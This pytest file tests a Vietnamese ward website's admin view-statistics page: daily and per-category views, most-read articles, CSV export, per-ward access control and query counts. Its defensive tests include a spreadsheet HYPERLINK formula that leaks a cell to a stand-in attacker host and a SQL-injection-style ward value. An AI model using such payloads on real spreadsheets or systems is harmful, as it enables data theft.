""" "Thống kê": a ward's editors see its views per day, most-read articles and
categories for 30 or 90 days, and download them as CSV; nobody else sees
them, and no other ward's views ever show."""

import csv
import io
import re
from datetime import timedelta

import pytest
from django.contrib.auth.models import Group, User
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from django.utils.formats import date_format
from pytest_django.asserts import assertContains

from articles import statistics
from articles.models import Article, Category, DailyViews
from wards import roles
from wards.models import Membership

from .conftest import SECOND_HOST, make_staff

STATS = "/admin/thong-ke/"
DENIED = "Tài khoản của bạn không có quyền xem thống kê lượt xem."
OTHER_WARD_DENIED = "Bạn không có quyền xem thống kê của phường này."


@pytest.fixture
def today():
    return timezone.localdate()


@pytest.fixture
def add_views(today):
    """Gives an article `count` views `days_ago` days ago (0: today), on its
    day row and in its total, as the counter would have."""

    def add(article, days_ago, count):
        DailyViews.objects.create(
            article=article, day=today - timedelta(days=days_ago), views=count
        )
        Article.objects.filter(pk=article.pk).update(
            view_count=article.view_count + count
        )
        article.view_count += count
        return article

    return add


@pytest.fixture
def editor_client(client, ward_editor):
    client.force_login(ward_editor)
    return client


@pytest.fixture
def other_ward_article(second_ward, make_article):
    category = Category.objects.get(ward=second_ward, slug="cong-tac-dang")
    return make_article(category=category, title="Tin riêng của Bồ Đề")


def day_row(day, views):
    """A row of the page's table of days."""
    return (
        f"<tr><td>{date_format(day, 'l, d/m/Y')}</td>"
        f'<td class="stats-num">{views}</td></tr>'
    )


def figure(value):
    return f'<dd class="stats-figure">{value}</dd>'


def top_titles(response):
    return [article.title for article in response.context["stats"].top]


def read_csv(response):
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body.removeprefix("\ufeff"))))


# What an editor sees.


def test_editor_sees_the_wards_views_and_no_other_wards(
    editor_client, make_article, other_category, add_views, other_ward_article, today
):
    party = add_views(make_article(title="Hội nghị Đảng ủy phường"), 0, 5)
    add_views(party, 3, 7)
    notice = add_views(
        make_article(title="Thông báo lịch tiếp dân", category=other_category), 10, 4
    )
    add_views(other_ward_article, 0, 100)

    response = editor_client.get(STATS)

    assert response.status_code == 200
    assert response.context["ward"].is_default
    assert response.context["stats"].total == 16
    assert top_titles(response) == [party.title, notice.title]
    assert other_ward_article.title not in response.content.decode()
    assert "Phường Bồ Đề" not in response.content.decode()
    assertContains(response, figure(16), html=True)
    assertContains(response, day_row(today, 5), html=True)
    assertContains(response, day_row(today - timedelta(days=3), 7), html=True)
    assertContains(response, "Thống kê lượt xem – Phường Phúc Lợi")
    assertContains(response, '<a href="/admin/">Trang chủ</a>', html=True)


def test_a_readers_view_shows_at_once(editor_client, reader, make_article, today):
    article = make_article(title="Thông báo lịch tiếp công dân")
    reader.get(article.get_absolute_url())

    response = editor_client.get(STATS)

    assert response.context["stats"].days[-1] == (today, 1)
    assert top_titles(response) == ["Thông báo lịch tiếp công dân"]
    assertContains(response, day_row(today, 1), html=True)
    assertContains(response, "<title>" + f"{today:%d/%m}: 1 lượt xem</title>")


def test_a_day_without_views_shows_zero(editor_client, make_article, add_views, today):
    add_views(make_article(), 1, 3)

    response = editor_client.get(STATS)

    days = response.context["stats"].days
    assert len(days) == 30
    assert days[0] == (today - timedelta(days=29), 0)
    assert days[-2:] == [(today - timedelta(days=1), 3), (today, 0)]
    assertContains(response, day_row(today - timedelta(days=2), 0), html=True)
    assertContains(response, day_row(today, 0), html=True)


def test_90_days_reach_further_back_than_30(
    editor_client, make_article, add_views, today
):
    article = add_views(make_article(), 2, 10)
    add_views(article, 40, 6)
    add_views(article, 120, 1000)  # Before either period.

    thirty = editor_client.get(STATS)
    ninety = editor_client.get(STATS, {"days": "90"})

    assert thirty.context["stats"].total == 10
    assert len(thirty.context["stats"].days) == 30
    assert ninety.context["stats"].total == 16
    assert len(ninety.context["stats"].days) == 90
    assert ninety.context["stats"].days[0][0] == today - timedelta(days=89)
    assertContains(thirty, figure(10), html=True)
    assertContains(ninety, figure(16), html=True)
    assertContains(ninety, '<a href="/admin/thong-ke/?days=90" aria-current="page">')


def test_the_period_is_compared_with_the_one_before(
    editor_client, make_article, add_views
):
    article = add_views(make_article(), 1, 15)
    add_views(article, 35, 10)  # 30 days earlier.

    response = editor_client.get(STATS)

    assertContains(response, "Tăng 50% so với 30 ngày trước đó (10).")


def test_most_read_is_by_the_periods_views_then_total(
    editor_client, make_article, add_views
):
    old_favourite = make_article(title="Bài cũ đọc nhiều", view_count=5000)
    add_views(old_favourite, 5, 2)
    add_views(make_article(title="Bài đọc nhiều trong tháng"), 1, 40)
    tied = add_views(make_article(title="Bài hòa lượt, tổng nhiều hơn"), 2, 2)
    Article.objects.filter(pk=tied.pk).update(view_count=9000)
    add_views(make_article(title="Chỉ đọc từ lâu"), 60, 70)
    withdrawn = make_article(title="Bài đã gỡ vẫn có lượt xem")
    add_views(withdrawn, 3, 9)
    Article.objects.filter(pk=withdrawn.pk).update(status=Article.Status.WITHDRAWN)

    response = editor_client.get(STATS)

    assert top_titles(response) == [
        "Bài đọc nhiều trong tháng",
        "Bài đã gỡ vẫn có lượt xem",
        "Bài hòa lượt, tổng nhiều hơn",
        "Bài cũ đọc nhiều",
    ]
    top = response.context["stats"].top
    assert [(a.period_views, a.view_count) for a in top][-1] == (2, 5002)
    assertContains(response, '<span class="stats-state">Đã gỡ</span>', html=True)


def test_views_per_category(
    editor_client, make_article, category, other_category, add_views
):
    add_views(make_article(category=category), 0, 6)
    add_views(make_article(category=category), 4, 3)
    add_views(make_article(category=other_category), 2, 1)
    add_views(make_article(category=other_category), 50, 99)  # Outside.

    response = editor_client.get(STATS)

    per_category = {
        c.name: (c.period_views, c.articles_read)
        for c in response.context["stats"].categories
    }
    assert per_category["Công tác Đảng"] == (9, 2)
    assert per_category["Thông báo"] == (1, 1)
    assert per_category["Kinh tế"] == (0, 0)  # Unread sections are listed.
    assert len(per_category) == Category.objects.filter(ward=category.ward).count()
    names = [c.name for c in response.context["stats"].categories]
    assert names[:2] == ["Công tác Đảng", "Thông báo"]
    assert response.context["stats"].articles_read == 3


def test_the_chart_is_an_accessible_picture_without_scripts(
    editor_client, make_article, add_views, today
):
    add_views(make_article(), 0, 3)
    add_views(make_article(), 7, 12)

    response = editor_client.get(STATS)
    page = response.content.decode()

    plot = re.search(r'<svg class="stats-chart-plot".*?</svg>', page, re.S).group()
    assert 'role="img"' in plot
    summary = (
        f"Lượt xem mỗi ngày từ {today - timedelta(days=29):%d/%m/%Y} đến "
        f"{today:%d/%m/%Y}: tổng 15 lượt, trung bình 1 lượt một ngày, nhiều "
        f"nhất 12 lượt vào ngày {today - timedelta(days=7):%d/%m/%Y}."
    )
    assert f'aria-label="{summary}"' in plot
    assert "<title>Lượt xem mỗi ngày</title>" in plot
    assert plot.count('<rect class="stats-bar') == 2
    assert f">{today:%d/%m}</text>" in plot  # Today's date under its bar.
    assert "<title>" + f"{today:%d/%m}: 3 lượt xem</title>" in plot
    # Round gridlines 0, 5, 10, 15 for a highest day of 12.
    assert re.findall(r'dominant-baseline="middle">([\d.]+)<', page) == [
        "0",
        "5",
        "10",
        "15",
    ]
    assert "<details" in page and "Bảng số liệu theo ngày" in page
    # Ready for a strict Content-Security-Policy: no inline script or style.
    assert not re.search(r"<script(?![^>]*\ssrc=)", page)
    assert " style=" not in page
    assert "<style" not in page


def test_nice_steps_are_round():
    assert [statistics.nice_step(m) for m in (0, 3, 12, 100, 1234, 9000)] == [
        1,
        1,
        5,
        25,
        500,
        2500,
    ]


# CSV.


def test_csv_for_excel(editor_client, make_article, other_category, add_views, today):
    article = add_views(
        make_article(
            title="Lễ ra quân Tháng Thanh niên",
            published_at=timezone.now() - timedelta(days=20),
        ),
        3,
        8,
    )
    add_views(article, 40, 2)  # Outside the period, in the total.
    add_views(make_article(category=other_category), 0, 1)

    response = editor_client.get(STATS, {"format": "csv"})

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="thong-ke-phuong-phuc-loi-{today:%Y-%m-%d}-30-ngay.csv"'
    )
    rows = read_csv(response)
    assert rows[0] == ["Ngày", "Lượt xem"]
    assert rows[1] == [(today - timedelta(days=29)).isoformat(), "0"]
    assert rows[27] == [(today - timedelta(days=3)).isoformat(), "8"]
    assert rows[30] == [today.isoformat(), "1"]
    assert rows[31] == []
    assert rows[32] == [
        "Tiêu đề",
        "Chuyên mục",
        "Ngày đăng",
        "Lượt xem trong kỳ",
        "Tổng lượt xem",
    ]
    assert rows[33] == [
        "Lễ ra quân Tháng Thanh niên",
        "Công tác Đảng",
        timezone.localdate(article.published_at).isoformat(),
        "8",
        "10",
    ]
    assert rows[35] == []
    assert rows[36] == ["Chuyên mục", "Lượt xem trong kỳ", "Số bài được đọc"]
    assert ["Công tác Đảng", "8", "1"] in rows[37:]


def test_csv_90_days_lists_every_article_read(editor_client, make_article, add_views):
    """Not only the page's top ten: every article read in the period."""
    count = statistics.TOP_ARTICLES + 3
    for n in range(1, count + 1):
        add_views(make_article(), 80, n)

    response = editor_client.get(STATS, {"format": "csv", "days": "90"})

    assert response["Content-Disposition"].endswith('-90-ngay.csv"')
    rows = read_csv(response)
    assert rows[0] == ["Ngày", "Lượt xem"]
    assert rows[91] == []
    articles = rows[93 : rows.index([], 92)]
    assert [row[3] for row in articles] == [str(n) for n in range(count, 0, -1)]


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("http://ke-gian.example/?"&A1,"Bấm vào đây")',
        "+84 912 345 678 gọi ngay",
        "-1+1 là bao nhiêu",
        "@SUM(1+1)",
        " =1+1",
    ],
)
def test_csv_titles_never_become_formulas(
    editor_client, make_article, add_views, title
):
    add_views(make_article(title=title), 0, 1)

    rows = read_csv(editor_client.get(STATS, {"format": "csv"}))

    cell = rows[33][0]
    assert cell == "'" + Article.objects.get().title
    assert cell[0] == "'"


def test_csv_cells_that_are_no_formula_are_kept():
    assert statistics.csv_text("Tin tức - Sự kiện") == "Tin tức - Sự kiện"
    assert statistics.csv_text("=1") == "'=1"


# Who may see it.


def test_writer_is_refused_and_has_no_link(client, writer, make_article, add_views):
    add_views(make_article(title="Tin bí mật của phường"), 0, 5)
    client.force_login(writer)

    response = client.get(STATS)
    csv_response = client.get(STATS, {"format": "csv"})
    index = client.get("/admin/")

    assert response.status_code == 403
    assert csv_response.status_code == 403
    assert DENIED in response.content.decode()
    assert "Tin bí mật của phường" not in response.content.decode()
    assert csv_response["Content-Type"].startswith("text/html")
    assert 'href="/admin/thong-ke/"' not in index.content.decode()


def test_editor_finds_the_link_in_the_admin(editor_client):
    response = editor_client.get("/admin/")

    assertContains(response, '<a href="/admin/thong-ke/">Thống kê</a>', html=True)
    assertContains(
        response, '<a href="/admin/thong-ke/">Thống kê lượt xem</a>', html=True
    )


def test_another_wards_editor_cannot_reach_this_ward(
    client, ward, second_ward, make_article, add_views
):
    add_views(make_article(title="Tin riêng của Phúc Lợi"), 0, 5)
    client.force_login(make_staff("bientapbode", second_ward, role=roles.EDITOR))

    crafted = client.get(STATS, {"ward": ward.pk})
    crafted_csv = client.get(STATS, {"ward": ward.pk, "format": "csv"})
    own = client.get(STATS)  # On the default ward's host: still their own.

    assert crafted.status_code == 403
    assert OTHER_WARD_DENIED in crafted.content.decode()
    assert "Tin riêng của Phúc Lợi" not in crafted.content.decode()
    assert crafted_csv.status_code == 403
    assert own.status_code == 200
    assert own.context["ward"] == second_ward
    assert own.context["stats"].total == 0


def test_a_writer_here_and_editor_there_sees_only_there(
    client, ward, second_ward, make_article, add_views, other_ward_article
):
    add_views(make_article(title="Tin riêng của Phúc Lợi"), 0, 5)
    add_views(other_ward_article, 1, 2)
    user = make_staff("haiphuong", second_ward, role=roles.EDITOR)
    Membership.objects.create(
        user=user, ward=ward, role=Group.objects.get(name=roles.WRITER)
    )
    client.force_login(user)

    response = client.get(STATS)

    assert response.context["wards"] == [second_ward]
    assert response.context["stats"].total == 2
    assert "Tin riêng của Phúc Lợi" not in response.content.decode()
    assert client.get(STATS, {"ward": ward.pk}).status_code == 403


def test_an_editor_elsewhere_is_no_editor_here(
    client, ward, second_ward, ward_editor, make_article, add_views
):
    """The ward's own editor (ward_editor) exists: that another ward's
    editor is a writer here gives them no editor's rights here."""
    add_views(make_article(title="Tin riêng của Phúc Lợi"), 0, 5)
    user = make_staff("haiphuong", second_ward, role=roles.EDITOR)
    Membership.objects.create(
        user=user, ward=ward, role=Group.objects.get(name=roles.WRITER)
    )
    client.force_login(user)

    response = client.get(STATS, {"ward": ward.pk})

    assert response.status_code == 403
    assert "Tin riêng của Phúc Lợi" not in response.content.decode()


def test_superuser_chooses_the_ward(
    client, editor, ward, second_ward, make_article, add_views, other_ward_article
):
    add_views(make_article(title="Tin riêng của Phúc Lợi"), 0, 5)
    add_views(other_ward_article, 1, 2)
    client.force_login(editor)

    here = client.get(STATS)
    there = client.get(STATS, {"ward": second_ward.pk, "days": "90"})
    on_bode = client.get(STATS, HTTP_HOST=SECOND_HOST)

    assert here.context["ward"] == ward
    assert here.context["stats"].total == 5
    assert there.context["ward"] == second_ward
    assert there.context["stats"].total == 2
    assert top_titles(there) == ["Tin riêng của Bồ Đề"]
    assert on_bode.context["ward"] == second_ward  # The host's ward first.
    assertContains(
        there,
        f'<option value="{second_ward.pk}" selected>Phường Bồ Đề</option>',
        html=True,
    )
    assertContains(
        there, f"/admin/thong-ke/?ward={second_ward.pk}&amp;days=90&amp;format=csv"
    )


def test_anonymous_is_sent_to_the_login(client, db):
    response = client.get(STATS)

    assert response.status_code == 302
    assert response["Location"] == "/admin/login/?next=/admin/thong-ke/"


def test_a_resident_account_is_sent_to_the_login(client, resident_account):
    client.force_login(resident_account)

    response = client.get(STATS, {"format": "csv"})

    assert response.status_code == 302
    assert response["Location"].startswith("/admin/login/")


def test_the_page_is_never_cached(editor_client):
    response = editor_client.get(STATS)

    assert "no-cache" in response["Cache-Control"]
    assert "private" in response["Cache-Control"]


def test_it_only_answers_get(editor_client):
    assert editor_client.post(STATS).status_code == 405


@pytest.mark.parametrize(
    "params",
    [
        {"days": "abc"},
        {"days": "-30"},
        {"days": "0"},
        {"days": "7"},
        {"days": "30.0"},
        {"days": "9" * 40},
        {"days": ""},
        {"format": "xlsx"},
        {"days": "90\x00"},
    ],
)
def test_bad_days_are_the_default_30(editor_client, params):
    response = editor_client.get(STATS, params)

    assert response.status_code == 200
    assert len(response.context["stats"].days) == 30


@pytest.mark.parametrize(
    "ward_param", ["abc", "0", "-1", "999999", "1 OR 1=1", "9" * 40, "１"]
)
def test_bad_wards_are_refused_not_errors(editor_client, ward_param):
    response = editor_client.get(STATS, {"ward": ward_param, "days": "90"})

    assert response.status_code == 403
    assert OTHER_WARD_DENIED in response.content.decode()


def test_staff_without_a_ward_is_refused(client, db):
    user = User.objects.create_user("chuaphuong", password="x", is_staff=True)
    client.force_login(user)

    assert client.get(STATS).status_code == 403


# The query count does not grow with the data.


def fill_ward(make_article, category, other_category, add_views, count):
    for n in range(count):
        article = make_article(
            title=f"Bài số {n}",
            category=(category, other_category)[n % 2],
        )
        for days_ago in (0, 5, 40, 85):
            add_views(article, days_ago + n % 3, n + 1)


def summing(queries):
    """The statistics' own queries: each sums day rows."""
    return [query for query in queries if "articles_dailyviews" in query["sql"]]


@pytest.mark.parametrize("params", [{}, {"days": "90"}, {"format": "csv"}])
def test_query_count_is_fixed(
    editor_client,
    make_article,
    category,
    other_category,
    add_views,
    django_assert_num_queries,
    params,
):
    fill_ward(make_article, category, other_category, add_views, 1)
    editor_client.get(STATS, params)  # Whatever a first request caches.
    with CaptureQueriesContext(connection) as one_article:
        editor_client.get(STATS, params)
    fill_ward(make_article, category, other_category, add_views, 49)

    # The same queries for 50 articles as for 1: the session, the user and
    # their wards and roles, the admin's permissions for a page, and three
    # sums (per day, per category, most read).
    with django_assert_num_queries(len(one_article)) as fifty_articles:
        response = editor_client.get(STATS, params)

    assert response.status_code == 200
    assert len(summing(one_article.captured_queries)) == 3
    assert len(summing(fifty_articles.captured_queries)) == 3
